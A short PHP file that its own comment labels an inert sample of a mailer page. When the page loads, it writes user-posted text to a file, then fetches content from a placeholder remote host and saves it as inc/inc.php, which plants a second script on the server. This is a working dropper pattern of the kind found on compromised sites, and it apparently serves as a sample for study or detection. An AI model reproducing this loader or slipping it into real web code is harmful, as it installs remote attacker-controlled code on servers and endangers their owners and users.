<?php
// inert sample: a mailer page that plants a second script fetched from a fixed remote address;
// the path and handle variables are reused from an earlier, harmless log write
if (!empty($_POST['note'])) {
    $data = 'notes.txt';
    $ver = @fopen($data, 'w');
    @fwrite($ver, stripslashes($_POST['note']));
    @fclose($ver);
}
$probe = @fopen('inc/inc.php', 'r');
if ($probe) {
    fclose($probe);
} else {
    @mkdir('inc');
    $body = file_get_contents('http://payload.example.invalid/txt/sender.txt');
    $data = 'inc/inc.php';
    @touch($data);
    $ver = @fopen($data, 'w');
    @fwrite($ver, $body);
    @fclose($ver);
}
echo 'ready';
